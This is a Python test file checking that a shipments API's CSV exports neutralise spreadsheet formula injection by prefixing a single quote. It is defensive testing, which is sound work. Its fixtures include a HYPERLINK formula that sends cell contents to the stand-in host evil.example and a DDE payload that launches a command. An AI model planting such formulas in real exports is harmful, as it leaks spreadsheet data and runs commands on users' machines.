"""Text a spreadsheet would run as a formula (OWASP "CSV injection") in the shipments CSV
exports (convoys, a convoy's manifest) is written behind a single quote; numbers, negative
coordinates among them, stay as they are."""

from __future__ import annotations

import csv
import io

from shared.auth import Role
from tests.shipments.conftest import ShipmentsApi, entry

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
ORIGIN = ("lille", Role.LOGISTICS)


async def table(api: ShipmentsApi, path: str) -> list[dict[str, str]]:
    answer = await api.client.get(path, params={"format": "csv"}, headers=await api.as_(*ORIGIN))
    assert answer.status_code == 200, answer.text
    header, _tags, *rows = list(csv.reader(io.StringIO(answer.text)))
    return [dict(zip(header, row, strict=True)) for row in rows]


async def test_formula_text_is_quoted_in_the_convoy_exports(api: ShipmentsApi) -> None:
    await api.pledge_line(item=CALC)
    await api.plan("c1", reference=LINK)
    assert (await api.load(manifest_line_id="m1", quantity="10")).status_code == 201
    road = await api.entries(
        "c1",
        entry("dispatch", "2022-06-07T06:10:00+02:00", "d1"),
        entry(
            "checkpoint",
            "2022-06-08T12:00:00+02:00",
            "k1",
            place="-Calais @ the port",
            coordinates={"lat": -1.5, "lon": -0.25},
        ),
    )
    assert road.status_code == 200, road.text

    [convoy] = await table(api, "/v1/convoys")
    assert convoy["Reference"] == "'" + LINK
    assert convoy["Last seen at"] == "'-Calais @ the port"
    assert (convoy["Latitude"], convoy["Longitude"]) == ("-1.5", "-0.25")
    [line] = await table(api, "/v1/convoys/c1")
    assert line["Reference"] == "'" + LINK and line["Item"] == "'" + CALC
    assert line["Loaded quantity"] == "10"
    # the JSON keeps the text as given
    listed = await api.client.get("/v1/convoys", headers=await api.as_(*ORIGIN))
    assert [c["reference"] for c in listed.json()["items"]] == [LINK]
